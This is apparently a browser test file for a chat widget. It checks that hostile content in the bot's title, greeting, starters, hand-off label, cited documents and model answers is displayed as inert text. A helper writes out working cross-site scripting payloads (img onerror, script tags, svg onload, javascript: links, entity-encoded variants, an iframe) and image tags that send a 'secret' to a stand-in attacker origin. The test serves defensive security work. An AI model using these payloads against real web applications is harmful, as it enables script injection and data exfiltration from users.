"""Held in the review: hostile text in everything the widget shows is inert in a real
chromium. The bot's name (the widget title), greeting, starters, hand-off label, documents
(citation snippets) and the model's answers carry the payloads below; no dialog opens, no
script runs, no element is injected, no link has a script scheme and nothing is fetched from
the attacker. Reuses tests/browser's chromium, sites and scripted model."""

from __future__ import annotations

import httpx
import pytest
from playwright.sync_api import expect

from tests.browser import conftest as browser_fixtures
from tests.browser.conftest import SERVER_ENV, Deployment, bot_spec, embed_page, help_centre
from tests.conftest import LiveServer

pytestmark = pytest.mark.browser

# tests/browser's fixtures, made visible to this folder's tests.
site = browser_fixtures.site
attacker = browser_fixtures.attacker
scripted_model = browser_fixtures.scripted_model

WIDGET = "prompteur-widget"
# Elements of the widget (its shadow DOM included) carrying an inline event handler.
HANDLERS = """() => {
    const host = document.querySelector('prompteur-widget');
    const root = host.shadowRoot || host;
    return [...root.querySelectorAll('*')]
        .filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on')))
        .map(e => e.outerHTML);
}"""


def hostile(attacker_origin: str) -> str:
    return (
        "<img src=x onerror=\"alert('img');window.__pwned='img'\"> "
        "<script>alert('script');window.__pwned='script'</script> "
        "<svg onload=\"alert('svg');window.__pwned='svg'\"></svg> "
        "<a href=\"javascript:alert('a')\">html link</a> "
        "[md link](javascript:alert('md')) ![md image](javascript:alert('mdimg')) "
        "[entity link](&#106;avascript:alert('entity')) "
        "&lt;img src=x onerror=alert('entity-img')&gt; &#60;script&#62;alert(1)&#60;/script&#62; "
        "<iframe src=\"javascript:alert('iframe')\"></iframe> "
        f'![leak]({attacker_origin}/leak?q=secret) <img src="{attacker_origin}/leak2">'
    )


def test_hostile_bot_fields_documents_and_answers_render_inert(tmp_path, browser, site, attacker, scripted_model):
    short = "<img src=x onerror=\"alert('name')\"><svg onload=alert(1)>"  # the title's 80 characters
    evil = hostile(attacker.origin)
    home = tmp_path / "home"
    home.mkdir()
    server = LiveServer(home, extra_env=SERVER_ENV).start()
    try:
        admin = httpx.Client(
            base_url=server.url, timeout=120, headers={"Authorization": f"Bearer {server.admin_token}"}
        )
        d = Deployment(url=server.url, admin=admin, origins=[site.origin, server.url])
        spec = bot_spec(scripted_model.base_url, d.origins, "en")
        welcome = (  # the greeting's 500 characters
            "Hello <img src=x onerror=\"alert('w')\"> <script>alert('w')</script> <svg onload=alert('w')> "
            "[w](javascript:alert('w')) ![w](javascript:alert('w')) &lt;b&gt; &#60;i&#62;"
        )
        spec["widget"] = {"title": "", "welcome": welcome, "starters": [short, "warranty " + short]}
        spec["fallback"] = {"handoff": {"enabled": True, "label": short}}
        bot_id, key = d.publish_bot(short, spec, "en", documents=help_centre(evil))
        scripted_model.rules = [("warranty", "About the warranty: " + evil + " Anything else?")]
        scripted_model.pause_on = scripted_model.cut_on = None

        site.pages["/"] = embed_page(server.url, bot_id, key)
        context = browser.new_context(viewport={"width": 1100, "height": 900})
        dialogs: list[str] = []
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(site.origin + "/")
        page.get_by_role("button", name="Open chat").click()
        panel = page.locator(WIDGET)
        expect(panel.get_by_text("Hello <img src=x")).to_be_visible()  # the greeting, as text
        panel.locator("textarea").fill("What does the warranty cover? " + evil)
        panel.locator("textarea").press("Enter")
        answer = panel.locator(".msg.bot").last
        expect(answer).to_contain_text("Anything else?")
        expect(answer.locator(".fb")).to_be_visible()
        answer.locator(".sources summary").first.click()
        expect(answer.locator(".sources blockquote").first).to_be_visible()

        def assert_inert():
            assert dialogs == []
            assert page.evaluate("() => window.__pwned === undefined")
            # The widget's own icons are aria-hidden SVGs; anything else is injected.
            injected = "img, svg:not([aria-hidden=true]), script, iframe, object, embed, foreignObject"
            assert panel.locator(f".log :is({injected})").count() == 0
            assert page.evaluate(HANDLERS) == []
            for a in panel.locator("a").all():
                href = a.get_attribute("href") or ""
                assert href == "" or href.startswith(("https://", "http://", "mailto:", "#")), href
            assert attacker.hits == []

        expect(answer).to_contain_text("<script>alert('script')")
        assert_inert()
        page.reload()  # the stored conversation, rendered again from the server's history
        expect(panel.locator(".msg.bot").last).to_contain_text("Anything else?")
        assert_inert()

        # The hosted chat page shows the same fields outside any customer site.
        hosted = context.new_page()
        hosted.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        hosted.goto(f"{server.url}/chat/{bot_id}")
        expect(hosted.get_by_text("Hello <img src=x").first).to_be_visible()
        assert dialogs == [] and hosted.evaluate("() => window.__pwned === undefined")
        assert attacker.hits == []
        context.close()
        admin.close()
    finally:
        server.stop()
